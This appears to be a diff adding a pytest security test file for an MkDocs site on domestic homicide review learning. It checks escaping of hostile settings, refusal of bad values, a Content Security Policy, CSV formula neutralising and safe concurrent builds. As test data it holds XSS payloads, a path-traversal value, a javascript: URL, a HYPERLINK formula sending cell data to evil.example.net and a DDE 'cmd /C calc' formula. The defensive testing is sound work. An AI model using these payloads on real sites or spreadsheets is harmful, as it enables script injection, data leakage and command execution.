@@ -1,0 +1,407 @@
+"""What a hostile setting, a careless paste or two scheduled builds can do:
+each must end in a clear error naming the file (and `site/` untouched), or in
+a site where nothing hostile is live and nothing leaves the browser.
+
+One section per kind of attack; the personal-data forms are in
+test_personal_data.py, and control characters with the other content
+mistakes in test_validation.py.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import shutil
+from html.parser import HTMLParser
+from pathlib import Path
+from xml.etree import ElementTree
+
+import pytest
+from playwright.sync_api import expect
+
+from conftest import build, make_project, serve
+
+PLANTED = '"><script>window.lbPwned=1</script><img src=x onerror="window.lbPwned=2">'
+
+
+class _LiveCode(HTMLParser):
+    """Everything in a page that could run or fetch: script elements, event
+    handler attributes, script addresses and elements that load from elsewhere."""
+
+    def __init__(self, site: Path, page: Path):
+        super().__init__()
+        self.site, self.page = site, page
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        attributes = dict(attrs)
+        for name, value in attributes.items():
+            if name.startswith("on"):
+                self.found.append(f"<{tag} {name}=...>")
+            if name in ("href", "src", "action", "formaction") and (value or "").strip().lower().startswith(("javascript:", "data:text")):
+                self.found.append(f"<{tag} {name}={value!r}>")
+        if tag == "script":
+            src = attributes.get("src")
+            if src is None:
+                if attributes.get("type") != "application/json":
+                    self.found.append("<script> with no src")
+            elif "//" in src or not self._is_site_file(src):
+                self.found.append(f"<script src={src!r}> that is not a file of the site")
+        if tag in ("img", "iframe", "object", "embed", "frame") and "//" in (attributes.get("src") or attributes.get("data") or "//"):
+            self.found.append(f"<{tag}> loading {attributes.get('src') or attributes.get('data')!r}")
+
+
+    def _is_site_file(self, address: str) -> bool:
+        # The 404 page links from the site's root (these sites are built for "/").
+        base = self.site if address.startswith("/") else self.page.parent
+        return (base / address.split("?")[0].lstrip("/")).resolve().is_file()
+
+
+def live_code(site: Path) -> dict[str, list[str]]:
+    found = {}
+    for page in site.rglob("*.html"):
+        parser = _LiveCode(site, page)
+        parser.feed(page.read_text(encoding="utf-8"))
+        if parser.found:
+            found[page.relative_to(site).as_posix()] = parser.found
+    return found
+
+
+# -- 1. settings as script ---------------------------------------------------------------
+
+TEXT_SETTINGS = {
+    "site_name: Learning from reviews": f"site_name: '{PLANTED}'",
+    "site_description: Learning from domestic homicide and related reviews, for practitioners, trainers and partnerships.":
+        f"site_description: '{PLANTED}'",
+    'copyright: ""': f"copyright: '{PLANTED}'",
+    "    partnership: Example Community Safety Partnership": f"    partnership: '{PLANTED} *CSP*'",
+    "    footer_text: Learning from reviews is shared so that practice changes and future deaths are prevented.":
+        f"    footer_text: '{PLANTED}'",
+    "    - name: National Domestic Abuse Helpline (Refuge)": f"    - name: '{PLANTED}'",
+}
+
+
+@pytest.fixture(scope="module")
+def hostile_settings_site(tmp_path_factory) -> Path:
+    project = make_project(tmp_path_factory.mktemp("hostile-settings"), settings=TEXT_SETTINGS)
+    result = build(project)
+    assert result.returncode == 0, result.output
+    return result.site
+
+
+def test_text_settings_are_printed_as_text_everywhere(hostile_settings_site):
+    assert live_code(hostile_settings_site) == {}
+    home = (hostile_settings_site / "index.html").read_text(encoding="utf-8")
+    assert "&lt;script&gt;window.lbPwned=1&lt;/script&gt;" in home
+    statement = (hostile_settings_site / "accessibility/index.html").read_text(encoding="utf-8")
+    # Settings in a hand-written page are literal Markdown too: no emphasis.
+    assert "*CSP*" in statement and "<em>CSP</em>" not in statement
+    feed = ElementTree.parse(hostile_settings_site / "feed.xml").getroot()
+    assert PLANTED in "".join(feed.itertext())  # XML text, escaped by the XML writer
+
+
+def test_text_settings_never_run_in_the_browser(page, hostile_settings_site, page_errors):
+    dialogs: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    with serve(hostile_settings_site) as url:
+        for address in ("", "accessibility/", "briefs/familial-homicide-in-a-care-home/",
+                        "briefs/familial-homicide-in-a-care-home/handout.html", "404.html"):
+            page.goto(url + address, wait_until="networkidle")
+            assert page.evaluate("window.lbPwned") is None, address
+            expect(page.get_by_text("window.lbPwned=1").first).to_be_attached()
+    assert dialogs == []
+    assert not [e for e in page_errors if "Content Security Policy" in e]
+
+
+REFUSED_SETTINGS = [
+    # (the line replaced, what replaces it, the field named, words of the message)
+    ("  logo: assets/logo.svg", '  logo: "assets/logo.svg\\"><script>x</script>"', "theme.logo", "is not the name of a"),
+    ("  logo: assets/logo.svg", "  logo: ../../../etc/logo.svg", "theme.logo", "is not the name of a"),
+    ("  logo: assets/logo.svg", "  logo: assets/missing.svg", "theme.logo", "which does not exist"),
+    ("    contact_email: community.safety@example.org", "    contact_email: '\"><script>x</script>@example.org'",
+     "extra.site.contact_email", "is not an email address"),
+    ("    contact_email: community.safety@example.org", "    contact_email: 'a@example.org?subject=x'",
+     "extra.site.contact_email", "is not an email address"),
+    ("    quick_exit_url: https://www.bbc.co.uk/weather", "    quick_exit_url: mailto:someone@example.org",
+     "extra.site.quick_exit_url", 'uses "mailto:", which is not allowed'),
+    ("    quick_exit_url: https://www.bbc.co.uk/weather", "    quick_exit_url: tel:999",
+     "extra.site.quick_exit_url", 'uses "tel:", which is not allowed'),
+    ("    quick_exit_url: https://www.bbc.co.uk/weather", "    quick_exit_url: http://www.bbc.co.uk/weather",
+     "extra.site.quick_exit_url", 'uses "http:", which is not allowed'),
+    ("    partnership: Example Community Safety Partnership", '    partnership: "Example\\u202e CSP"',
+     "extra.site.partnership", "U+202E (RIGHT-TO-LEFT OVERRIDE)"),
+    ("site_name: Learning from reviews", 'site_name: "Learning\\x1b[2J from reviews"', "site_name", "U+001B (ESCAPE)"),
+]
+
+
+@pytest.mark.parametrize("old, new, field, words", REFUSED_SETTINGS, ids=[f"{c[2]}:{c[1].strip()[:30]}" for c in REFUSED_SETTINGS])
+def test_a_hostile_setting_is_refused_with_file_line_and_field(tmp_path, old, new, field, words):
+    project = make_project(tmp_path / "p", settings={old: new})
+    site = project / "site"
+    site.mkdir()
+    (site / "index.html").write_text("the last good site", encoding="utf-8")
+    result = build(project)
+    assert result.returncode == 1
+    line = next(i for i, text in enumerate((project / "mkdocs.yml").read_text(encoding="utf-8").splitlines(), 1) if text == new)
+    assert f"mkdocs.yml:{line}: {field}: " in result.output, result.output
+    assert words in result.output
+    assert "Traceback" not in result.output and "\x1b[2J" not in result.output
+    assert sorted(p.name for p in site.iterdir()) == ["index.html"]
+
+
+@pytest.mark.parametrize("address, message", [
+    ('https://x.example/"><script>window.lbPwned=1</script>', "mkdocs.yml:7: site_url: "),
+    ("https://x.example/a b/", "mkdocs.yml:7: site_url: "),
+    ("https://x.example/?next=/", "mkdocs.yml:7: site_url: "),
+    # MkDocs refuses an address with no http(s) itself, before our checks run.
+    ("javascript:alert(1)//", "Config value 'site_url': The URL isn't valid"),
+])
+def test_a_hostile_site_address_is_refused(tmp_path, address, message):
+    project = make_project(tmp_path / "p")
+    result = build(project, env={"SITE_URL": address})
+    assert result.returncode == 1
+    assert message in result.output, result.output
+    if message.startswith("mkdocs.yml"):
+        assert "It comes from the environment variable SITE_URL." in result.output
+    assert "Traceback" not in result.output
+    assert not (project / "site").exists()
+
+
+# -- 2. a policy that allows only the site's own script files --------------------------------
+
+
+def _policy_from(file: str, text: str) -> str:
+    patterns = {
+        "_headers": r"^\s*Content-Security-Policy: (.+)$",
+        ".htaccess": r'Header always set Content-Security-Policy "([^"]+)"',
+        "security-headers.nginx.conf": r'add_header Content-Security-Policy "([^"]+)" always;',
+    }
+    return re.search(patterns[file], text, flags=re.M).group(1)
+
+
+def _plant_inline_script(site: Path, page: str, *, keep_meta: bool) -> None:
+    target = site / page
+    html = target.read_text(encoding="utf-8")
+    if not keep_meta:
+        html, removed = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
+        assert removed == 1
+    html = html.replace("</main>", "<script>window.lbPlanted = true;</script></main>", 1)
+    target.write_text(html, encoding="utf-8")
+
+
+@pytest.mark.parametrize("policy_from", ["meta", "_headers", ".htaccess", "security-headers.nginx.conf"])
+def test_the_policy_blocks_an_inline_script_that_reaches_a_page(page, built_site, tmp_path, policy_from, page_errors):
+    site = shutil.copytree(built_site, tmp_path / "site")
+    headers = {}
+    if policy_from != "meta":
+        headers["Content-Security-Policy"] = _policy_from(policy_from, (site / policy_from).read_text(encoding="utf-8"))
+    _plant_inline_script(site, "about-reviews/index.html", keep_meta=policy_from == "meta")
+    with serve(site, headers=headers) as url:
+        page.goto(url + "about-reviews/", wait_until="networkidle")
+        assert page.evaluate("window.lbPlanted") is None
+        # The page's own scripts still run: the theme's and ours.
+        assert page.evaluate("document.documentElement.classList.contains('lb-js')")
+        assert page.evaluate("typeof window.__md_get") == "function"
+    assert any("Content Security Policy" in error for error in page_errors), page_errors
+
+
+def test_the_planted_script_runs_without_the_policy(page, built_site, tmp_path):
+    """The control for the test above: the same planted script, no policy, runs."""
+    site = shutil.copytree(built_site, tmp_path / "site")
+    _plant_inline_script(site, "about-reviews/index.html", keep_meta=False)
+    with serve(site) as url:
+        page.goto(url + "about-reviews/", wait_until="networkidle")
+        assert page.evaluate("window.lbPlanted") is True
+
+
+def test_no_page_holds_an_inline_script_or_a_foreign_one(built_site, fixture_site):
+    assert live_code(built_site) == {}
+    assert live_code(fixture_site) == {}
+
+
+def test_a_theme_feature_that_prints_an_inline_script_is_refused(tmp_path):
+    project = make_project(tmp_path / "p", settings={
+        "  generator: false": "  generator: false\n  analytics:\n    provider: google\n    property: G-ABCDEF1234",
+    })
+    site = project / "site"
+    site.mkdir()
+    (site / "index.html").write_text("the last good site", encoding="utf-8")
+    result = build(project)
+    assert result.returncode == 1
+    assert "holds an inline script" in result.output and "turn it off in mkdocs.yml" in result.output
+    assert "Traceback" not in result.output
+    assert sorted(p.name for p in site.iterdir()) == ["index.html"]
+
+
+# -- 3. spreadsheet formulas in the CSV ----------------------------------------------------
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_no_csv_cell_starts_a_formula_and_the_json_keeps_the_text(fixture_site):
+    text = (fixture_site / "recommendations/recommendations.csv").read_text(encoding="utf-8")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows
+    for row in rows:
+        for column, value in row.items():
+            assert not value.startswith(FORMULA_START), (column, value)
+    hostile = {row["id"]: row for row in rows if row["brief_slug"] == "hostile"}
+    assert hostile["hostile#1"]["text"] == "'" + '=HYPERLINK("https://evil.example.net/?"&A1, "Click for details")'
+    assert hostile["hostile#1"]["lead"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert hostile["hostile#1"]["evidence"] == "'+1+1 cases audited"
+    assert hostile["hostile#2"]["text"] == "'-2+3 is not a number but a formula"
+    records = json.loads((fixture_site / "recommendations/recommendations.json").read_text(encoding="utf-8"))
+    exact = {r["id"]: r for r in records["recommendations"]}
+    assert exact["hostile#1"]["text"] == '=HYPERLINK("https://evil.example.net/?"&A1, "Click for details")'
+    assert exact["hostile#1"]["lead"] == "@SUM(1+1)*cmd|' /C calc'!A0"
+    assert exact["hostile#2"]["lead"] == "=1+1"
+
+
+# -- 6. two builds at once, a killed build, a folder that cannot be written ---------------------
+
+import os  # noqa: E402
+import signal  # noqa: E402
+import subprocess  # noqa: E402
+import sys  # noqa: E402
+import threading  # noqa: E402
+import time  # noqa: E402
+
+from conftest import BUILD_EPOCH  # noqa: E402
+from macros.render import site_folder  # noqa: E402
+
+
+def _files(folder: Path) -> dict[str, int]:
+    return {p.relative_to(folder).as_posix(): p.stat().st_size for p in folder.rglob("*") if p.is_file()}
+
+
+def _start_build(project: Path) -> subprocess.Popen:
+    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "SOURCE_DATE_EPOCH": BUILD_EPOCH}
+    return subprocess.Popen([sys.executable, "-m", "mkdocs", "build", "--strict"], cwd=project, env=env,
+                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
+
+
+def _leftovers(project: Path) -> list[str]:
+    return sorted(p.name for p in project.iterdir() if p.name.startswith(("site.building", "site.previous")))
+
+
+@pytest.fixture(scope="module")
+def built_project(tmp_path_factory) -> tuple[Path, dict[str, int]]:
+    project = make_project(tmp_path_factory.mktemp("concurrent"))
+    result = build(project)
+    assert result.returncode == 0, result.output
+    return project, _files(project / "site")
+
+
+def test_two_builds_at_once_both_finish_and_the_site_is_whole(built_project):
+    project, expected = built_project
+    for attempt in range(3):
+        first, second = _start_build(project), _start_build(project)
+        outputs = [process.communicate(timeout=600)[0] for process in (first, second)]
+        assert first.returncode == 0 and second.returncode == 0, outputs
+        assert _files(project / "site") == expected, attempt
+        assert _leftovers(project) == []
+
+
+def test_the_site_is_never_missing_while_a_build_swaps_it_in(built_project):
+    project, _ = built_project
+    index = project / "site" / "index.html"
+    missing, done = [], threading.Event()
+
+    def watch():
+        while not done.is_set():
+            if not index.is_file():
+                missing.append(time.monotonic())
+
+    watcher = threading.Thread(target=watch)
+    watcher.start()
+    try:
+        result = build(project)
+    finally:
+        done.set()
+        watcher.join()
+    assert result.returncode == 0, result.output
+    assert missing == []
+
+
+def test_the_swap_is_one_atomic_exchange_here(tmp_path):
+    (tmp_path / "a").mkdir()
+    (tmp_path / "a" / "old").write_text("old")
+    (tmp_path / "b").mkdir()
+    (tmp_path / "b" / "new").write_text("new")
+    assert site_folder._exchange(tmp_path / "b", tmp_path / "a") is True
+    assert [p.name for p in (tmp_path / "a").iterdir()] == ["new"]
+    assert [p.name for p in (tmp_path / "b").iterdir()] == ["old"]
+
+
+def test_a_killed_build_leaves_the_site_and_the_next_build_clears_up(built_project):
+    project, expected = built_project
+    process = _start_build(project)
+    deadline = time.monotonic() + 120
+    while not any((project / name / "assets").exists() for name in _leftovers(project)):
+        assert process.poll() is None, "the build finished before it could be killed"
+        assert time.monotonic() < deadline, "no staging folder appeared"
+        time.sleep(0.01)
+    process.send_signal(signal.SIGKILL)
+    process.wait(timeout=60)
+    assert _files(project / "site") == expected
+    assert _leftovers(project), "the killed build's staging folder is left"
+    result = build(project)
+    assert result.returncode == 0, result.output
+    assert _files(project / "site") == expected
+    assert _leftovers(project) == []
+
+
+def test_a_second_build_says_that_it_waits(built_project):
+    import fcntl
+
+    project, expected = built_project
+    lines: list[str] = []
+    with open(project / ".site.lock", "a+") as lock:
+        fcntl.flock(lock, fcntl.LOCK_EX)  # as a first build would
+        process = _start_build(project)
+        reader = threading.Thread(target=lambda: lines.extend(process.stdout))
+        reader.start()
+        waiting = f"Another build of {project / 'site'} is running; waiting for it to finish."
+        deadline = time.monotonic() + 120
+        while not any(waiting in line for line in lines):
+            assert process.poll() is None, "".join(lines)
+            assert time.monotonic() < deadline, "".join(lines)
+            time.sleep(0.05)
+        assert _leftovers(project) == [], "no staging folder while another build holds the lock"
+        fcntl.flock(lock, fcntl.LOCK_UN)
+    process.wait(timeout=600)
+    reader.join()
+    assert process.returncode == 0, "".join(lines)
+    assert _files(project / "site") == expected
+
+
+def _make_unwritable(folder: Path) -> callable:
+    """Make `folder` refuse new files, even to root; returns how to undo it."""
+    if os.geteuid() != 0:
+        folder.chmod(0o555)
+        return lambda: folder.chmod(0o755)
+    subprocess.run(["chattr", "+i", str(folder)], check=True)
+    return lambda: subprocess.run(["chattr", "-i", str(folder)], check=True)
+
+
+@pytest.mark.parametrize("blocked_by", ["read-only folder", "a file in the way"])
+def test_a_place_the_site_cannot_be_written_gives_a_clear_message(tmp_path, blocked_by):
+    project = make_project(tmp_path / "p")
+    if blocked_by == "a file in the way":
+        (project / "output").write_text("not a folder")
+        target = project / "output" / "site"
+        undo = lambda: None  # noqa: E731
+    else:
+        (project / "output").mkdir()
+        target = project / "output" / "site"
+        undo = _make_unwritable(project / "output")
+    try:
+        result = build(project, target)
+    finally:
+        undo()
+    assert result.returncode == 1
+    assert f"The site cannot be written to {target}" in result.output, result.output
+    assert "mkdocs build -d /path/to/site" in result.output
+    assert "Traceback" not in result.output
